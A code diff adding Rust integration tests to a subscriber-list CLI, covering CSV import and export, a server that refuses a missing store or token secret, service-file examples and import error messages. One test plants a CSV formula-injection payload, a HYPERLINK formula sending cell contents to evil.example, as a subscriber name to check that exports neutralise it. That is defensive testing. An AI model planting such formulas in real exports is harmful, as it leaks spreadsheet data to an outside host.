@@ -193,3 +193,171 @@ fn check_forms_prints_every_case_form_and_where_it_came_from() {
         )));
     }
 }
+
+/// `subscribers import FILE --list r`, with `extra`.
+fn import(s: &support::Scratch, csv: &Path, extra: &[&str]) -> Output {
+    let mut args = vec![
+        "subscribers",
+        "import",
+        csv.to_str().unwrap(),
+        "--list",
+        "r",
+    ];
+    args.extend(extra);
+    s.run(&args)
+}
+
+#[test]
+fn exported_subscribers_never_open_as_spreadsheet_formulas_and_the_store_keeps_them_exact() {
+    let s = support::Scratch::new("export-formulas");
+    let name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
+    let csv = s.write(
+        "readers.csv",
+        &format!(
+            "email,name,lang,phone,note\n\
+             ana@example.org,\"{}\",en,+7 727 000 00 00,@SUM(1+1)\n\
+             bob@example.org,-2+3,ru,12,plain\n",
+            name.replace('"', "\"\"")
+        ),
+    );
+    support::assert_success(&import(&s, &csv, &[]));
+    let export = s.run(&["subscribers", "export"]);
+    support::assert_success(&export);
+    let mut reader = csv::Reader::from_reader(export.stdout.as_slice());
+    let rows: Vec<Vec<String>> = reader
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+        .collect();
+    // email, name, lang, status, note, phone
+    assert_eq!(rows[0][1], format!("'{name}"));
+    assert_eq!(rows[0][4], "'@SUM(1+1)");
+    assert_eq!(rows[0][5], "'+7 727 000 00 00");
+    assert_eq!(rows[1][1], "'-2+3");
+    assert_eq!((rows[1][4].as_str(), rows[1][5].as_str()), ("plain", "12"));
+    // The store holds what was entered.
+    let list = text(&s.run(&["subscribers", "list"]).stdout);
+    assert!(
+        list.lines()
+            .any(|l| l.starts_with("ana@example.org\t") && l.ends_with(&format!("\t{name}"))),
+        "{list}"
+    );
+}
+
+/// Runs a command that should end by itself; kills it and fails if it is still running after
+/// `secs` (a server that started instead of refusing to).
+fn ends_within(mut command: Command, secs: u64) -> Output {
+    let mut child = command
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
+    while child.try_wait().unwrap().is_none() {
+        if std::time::Instant::now() > deadline {
+            let _ = child.kill();
+            let out = child.wait_with_output().unwrap();
+            panic!("still running after {secs} s:\n{}", text(&out.stderr));
+        }
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    child.wait_with_output().unwrap()
+}
+
+#[test]
+fn serve_refuses_a_store_or_secret_that_does_not_exist_unless_told_to_create_them() {
+    let s = support::Scratch::new("serve-missing");
+    let serve = ["serve", "--listen", "127.0.0.1:0"];
+    // A wrong --db would serve an empty store: every genuine link would get 404.
+    let out = ends_within(s.command(&serve), 20);
+    let err = text(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{err}");
+    assert!(
+        err.contains("there is no store at") && err.contains("--create"),
+        "{err}"
+    );
+    assert!(!s.path("communique.db").exists());
+    // A store, but no secret: serve and unsubscribe create none (it would verify no link).
+    let csv = s.write("readers.csv", &support::subscribers_csv(2));
+    support::assert_success(&import(&s, &csv, &[]));
+    for args in [&serve[..], &["unsubscribe", "abc.def"]] {
+        let mut command = s.command(args);
+        command.env_remove("COMMUNIQUE_TOKEN_SECRET");
+        let out = ends_within(command, 20);
+        let err = text(&out.stderr);
+        assert_eq!(out.status.code(), Some(2), "{args:?}: {err}");
+        assert!(err.contains("no token secret"), "{args:?}: {err}");
+        assert!(!s.path("communique.secret").exists(), "{args:?}");
+    }
+    // --create starts anew, and says that it created the secret.
+    let fresh = support::Scratch::new("serve-create");
+    let mut child = fresh
+        .command(&["serve", "--listen", "127.0.0.1:0", "--create"])
+        .env_remove("COMMUNIQUE_TOKEN_SECRET")
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut log = String::new();
+    let mut lines = std::io::BufRead::lines(std::io::BufReader::new(child.stderr.take().unwrap()));
+    for line in lines.by_ref() {
+        let line = line.unwrap();
+        log.push_str(&line);
+        log.push('\n');
+        if line.contains("listening on") {
+            break;
+        }
+    }
+    let _ = Command::new("kill")
+        .args(["-TERM", &child.id().to_string()])
+        .status();
+    child.wait().unwrap();
+    assert!(log.contains("listening on"), "{log}");
+    assert!(log.contains("note: created"), "{log}");
+    assert!(fresh.path("communique.db").exists() && fresh.path("communique.secret").exists());
+}
+
+#[test]
+fn every_service_example_uses_one_store_and_one_secret() {
+    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
+    let store = "COMMUNIQUE_DB=/srv/communique/communique.db";
+    let secret = "COMMUNIQUE_TOKEN_SECRET_FILE=/etc/communique/token.secret";
+    for unit in ["communique-scheduler.service", "communique-serve.service"] {
+        let text = std::fs::read_to_string(root.join("dist").join(unit)).unwrap();
+        for needed in ["WorkingDirectory=/srv/communique", store, secret] {
+            assert!(text.contains(needed), "{unit} lacks {needed}");
+        }
+    }
+    let serve = std::fs::read_to_string(root.join("dist/communique-serve.service")).unwrap();
+    assert!(serve.contains("serve --listen 127.0.0.1:8080 --db /srv/communique/communique.db"));
+    // The cron example: the same store and secret, and secrets.env's variables exported.
+    let readme = std::fs::read_to_string(root.join("README.md")).unwrap();
+    let cron = readme
+        .lines()
+        .find(|l| l.starts_with("* * * * *"))
+        .expect("the README's cron example");
+    for needed in [store, secret, "set -a"] {
+        assert!(
+            cron.contains(needed),
+            "the cron example lacks {needed}: {cron}"
+        );
+    }
+}
+
+#[test]
+fn an_import_without_strict_whose_rows_are_all_bad_does_not_blame_strict() {
+    let s = support::Scratch::new("all-bad");
+    let csv = s.write(
+        "readers.csv",
+        "email,name,lang\nnot-an-email,A,en\nb@example.org,B,de\n",
+    );
+    let out = import(&s, &csv, &[]);
+    let err = text(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{err}");
+    assert!(
+        err.contains("no row was good: nothing was imported"),
+        "{err}"
+    );
+    assert!(!err.contains("--strict"), "{err}");
+    // With --strict, it says that --strict is why.
+    let out = import(&s, &csv, &["--strict"]);
+    assert!(text(&out.stderr).contains("nothing was imported (--strict)"));
+}
